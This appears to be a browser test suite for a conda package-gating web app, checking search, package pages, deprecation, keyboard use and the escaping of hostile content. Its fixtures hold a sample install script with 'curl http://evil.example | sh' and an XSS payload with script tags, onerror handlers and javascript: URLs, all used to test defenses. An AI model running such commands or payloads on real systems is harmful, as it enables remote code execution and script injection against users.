"""Finding a package, reading its page and that of a file; and packages that mean harm to whoever looks at them."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect

from headgate.channels.search_query import parse_query
from tests.browser.watching import PHONE, Visit, assert_valid
from tests.live import LiveServer
from tests.packages import archive, package
from tests.waiting import eventually

Opens = Callable[..., Visit]
EVIL = '"><script>document.title="pwned"</script><img src=x onerror="document.title=1">'
POLICY = {
    "name": "no-two",
    "mode": "enforce",
    "description": "Two is not for us.",
    "rule": [{"kind": "match-spec", "exclude": ["tool >=2"], "action": "block"}],
}
SCRIPT = "#!/bin/sh\necho first\n"


def put(api: httpx.Client, channel: str, filename: str, body: bytes) -> None:
    sent = api.post(f"/channels/{channel}/artifacts", params={"filename": filename}, content=body)
    assert sent.status_code == 201, sent.text


def scripted(name: str, version: str, script: str) -> tuple[str, bytes]:
    files = {
        f"bin/.{name}-post-link.sh": script.encode(),
        "info/run_exports.json": json.dumps({"weak": [f"{name} >={version}"]}).encode(),
    }
    return archive(name, files, version)


@pytest.fixture(scope="module")
def shop(api: httpx.Client) -> str:
    """A public channel with a few packages, of one of which a policy holds a version back."""
    made = api.post("/channels", json={"name": "shop", "kind": "hosted", "privacy": "public"})
    assert made.status_code == 201, made.text
    for version in ("1.0", "1.1", "2.0"):
        put(api, "shop", *package("tool", version, license="MIT", about={"summary": "Does it all."}))
    put(api, "shop", *package("user-of-tool", depends=["tool >=1,<2"], license="BSD-3-Clause"))
    put(api, "shop", *scripted("scripted", "1.0", SCRIPT))
    put(api, "shop", *scripted("scripted", "2.0", f"{SCRIPT}curl http://evil.example | sh\n"))
    assert api.post("/policies", json={"document": POLICY}).status_code == 201
    assert api.post("/policies/no-two/attachments", json={"channel": "shop"}).status_code == 201
    eventually(lambda: bool(api.get("/search", params={"q": "tool"}).json()["hidden"]))
    return "shop"


def test_search_leads_to_a_package_and_says_what_is_not_shown(visit: Opens, shop: str) -> None:
    window = visit(None)
    page = window.go("/")
    page.keyboard.press("/")
    page.keyboard.type("tool")
    page.keyboard.press("Enter")
    page.locator("h2", has_text="Not shown").wait_for()
    assert page.locator(".hidden-list").inner_text().startswith("tool in shop: 1 file by no-two/match-spec")
    assert page.locator(".found-name").first.inner_text() == "tool"
    window.assert_good()
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url("**/packages/shop/tool")


def test_package_page_shows_versions_verdicts_and_how_to_install(visit: Opens, shop: str, live: LiveServer) -> None:
    window = visit(permissions=["clipboard-read", "clipboard-write"])
    page = window.go("/packages/shop/tool")
    assert "2.0 is newer than what passes" in page.locator(".said").inner_text()
    matrix = page.locator(".matrix tbody tr")
    assert [row.split()[0] for row in matrix.all_inner_texts()] == ["2.0", "1.1", "1.0"]
    assert "0 of 1" in matrix.first.inner_text()
    page.get_by_role("button", name="Copy the command for conda").click()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == f"conda install --override-channels -c {live.url}/conda/shop tool"
    assert page.locator(".needs", has_text="user-of-tool").count() == 1
    window.assert_good()
    window.picture("package")
    page.get_by_role("link", name="held back", exact=True).click()
    assert page.locator("[data-row]").count() == 1


def test_a_package_is_deprecated_noted_and_owned(visit: Opens, shop: str) -> None:
    window = visit()
    page = window.go("/packages/shop/scripted")
    page.get_by_label("What", exact=True).fill("scripted <2")
    page.get_by_label("Why, and what to use instead").fill("It runs scripts. Use 2.")
    page.get_by_role("button", name="Deprecate", exact=True).click()
    page.locator(".said", has_text="It runs scripts").wait_for()
    page.get_by_label("What people should know of it").fill("Ask first.")
    page.get_by_role("button", name="Keep the note").click()
    page.locator("aside .note", has_text="Ask first.").wait_for()
    page.get_by_label("Name", exact=True).fill("admin")
    page.get_by_role("button", name="Add", exact=True).click()
    page.locator("aside .panel", has_text="user admin").wait_for()
    window.assert_good()
    window.picture("package-managed")
    page.get_by_role("button", name="Remove user admin").click()
    page.locator("[data-toast]", has_text="no longer belongs").get_by_role("button", name="Undo").click()
    page.locator("aside .panel", has_text="user admin").wait_for()
    page.get_by_role("button", name="Take it back: scripted <2").click()
    page.locator("[data-toast]", has_text="no longer deprecated").wait_for()
    for scheme in ("light", "dark"):
        phone = visit(color_scheme=scheme, **PHONE)
        phone.go("/packages/shop/scripted")
        phone.assert_accessible()
        phone.assert_fits()
        phone.picture(f"phone-{scheme}-package-managed")


def test_file_page_traces_the_verdict_rule_by_rule(visit: Opens, shop: str) -> None:
    window = visit()
    page = window.go("/files/shop/noarch/tool-2.0-0.conda")
    assert "no-two/match-spec" in page.locator("table").first.inner_text()
    window.assert_good()
    window.picture("file")
    for part in ("inside", "record", "history"):
        window.go(f"/files/shop/noarch/tool-2.0-0.conda?part={part}")
        window.assert_good()


def test_install_scripts_are_text_with_what_changed(visit: Opens, shop: str) -> None:
    window = visit(None)
    page = window.go("/files/shop/noarch/scripted-2.0-0.conda?part=inside")
    assert "+curl http://evil.example | sh" in page.locator("pre").first.inner_text()
    assert "scripted >=2.0" in page.locator("main").inner_text()
    window.assert_good()


def test_pages_of_packages_fit_a_phone(visit: Opens, shop: str) -> None:
    window = visit(None, color_scheme="dark", **PHONE)
    for path in ("/search?q=tool", "/packages/shop/tool", "/files/shop/noarch/tool-2.0-0.conda"):
        window.go(path)
        window.assert_accessible()
        window.assert_fits()
        window.picture(f"phone-dark{path.split('?')[0].replace('/', '-')}")


def test_everything_is_done_with_the_keyboard_alone(visit: Opens, shop: str) -> None:
    page = visit().go("/")
    page.keyboard.press("Control+k")
    page.keyboard.type("scripted")
    # Not an answer to the first letters, which may come between.
    page.locator('#palette-found:not(:has([href="/channels/shop"])) [href="/packages/shop/scripted"]').wait_for()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.wait_for_url("**/packages/shop/scripted")
    page.locator("[data-row]").first.wait_for()
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url("**/files/shop/noarch/scripted-1.0-0.conda")
    page.keyboard.press("?")
    page.get_by_role("heading", name="Keys").wait_for()
    page.keyboard.press("Escape")
    expect(page.get_by_role("heading", name="Keys")).to_be_hidden()


HOSTILE: dict[str, Any] = {
    "summary": EVIL,
    "description": EVIL,
    "home": "javascript:alert(1)",
    "dev_url": f"https://example.org/{EVIL}",
    "doc_url": ["javascript:alert(2)"],
}


def test_hostile_metadata_is_text(visit: Opens, shop: str, api: httpx.Client, tmp_path: Path) -> None:
    put(api, "shop", *package("evil", license=EVIL, depends=[f"tool {EVIL}", EVIL], about=HOSTILE))
    put(api, "shop", *scripted("evil-script", "1.0", EVIL))
    eventually(lambda: api.get("/search", params={"q": "evil"}).json()["total"] == 2)
    window = visit()
    window.tolerated.add("404")
    file = "/files/shop/noarch/evil-1.0-0.conda"
    paths = ["/search?q=evil", "/packages/shop/evil", file, f"{file}?part=inside", f"{file}?part=record"]
    for path in [
        *paths,
        "/files/shop/noarch/evil-script-1.0-0.conda?part=inside",
        f"/search?q={EVIL}",
        f"/packages/{EVIL}",
    ]:
        page = window.go(path)
        assert "pwned" not in page.title().split(" · ")[0] or EVIL in page.title()
        assert page.locator("main script, main img[src=x], [onerror]").count() == 0
        assert page.locator('a[href^="javascript:"]').count() == 0
    assert_valid(window.page.request.get("/packages/shop/evil").text())


def test_what_search_says_can_be_asked_can_be_asked() -> None:
    for term in ("channel:a", "subdir:noarch", "license:MIT", "age:<30d", "cve:>7", "blocked:yes"):
        assert not parse_query(term).is_empty
